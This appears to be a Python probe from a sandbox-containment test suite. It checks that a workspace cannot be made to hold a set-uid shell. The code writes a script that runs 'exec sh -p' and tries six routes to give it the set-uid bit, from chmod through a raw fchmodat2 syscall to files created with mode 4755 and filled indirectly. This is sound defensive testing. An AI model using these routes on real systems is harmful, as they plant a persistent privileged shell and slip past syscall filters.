# attempt: Leaves a program in the caller's directory that runs with the rights of its owner, whoever starts it: by
#     giving it the mode, and by making a file with that mode which is then filled in ways that might leave it.
# known-from: the set-uid shell in a shared directory, the oldest way to stay; CVE-2021-4034's payloads left one
# held-by: filter, kernel
# must: held
# needs: workspace
# control: bare
import contextlib
import ctypes
import mmap
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
os.chdir(os.environ["ESCAPE_WORKSPACE"])
CODE = b"#!/bin/sh\nexec sh -p\n"


def by_mode(change):
    with open(change.__name__, "wb") as file:
        file.write(CODE)
    change(change.__name__)


def by_making(fill):
    fd = os.open(fill.__name__, os.O_RDWR | os.O_CREAT, 0o4755)
    fill(fd)
    with mmap.mmap(fd, len(CODE)) as memory:  # what is written so is written by the kernel, later
        memory[:] = CODE


def chmod(name):
    os.chmod(name, 0o4755)


def fchmodat(name):
    os.chmod(name, 0o4755, dir_fd=os.open(".", os.O_RDONLY))


def fchmodat2(name):
    libc.syscall(452, -100, name.encode(), 0o4755, 0)


def truncated(fd):
    os.ftruncate(fd, len(CODE))


def allocated(fd):
    os.posix_fallocate(fd, 0, len(CODE))


def copied(fd):
    os.copy_file_range(os.open(chmod.__name__, os.O_RDONLY), fd, len(CODE))


for way, acts in (by_mode, (chmod, fchmodat, fchmodat2)), (by_making, (truncated, allocated, copied)):
    for act in acts:
        with contextlib.suppress(OSError):
            way(act)
looks = {name: os.stat(name) for name in os.listdir()}
left = [name for name, found in looks.items() if found.st_mode & stat.S_ISUID and found.st_size]
print(f"escaped: set-uid: {left}" if left else "held: no program became set-uid")
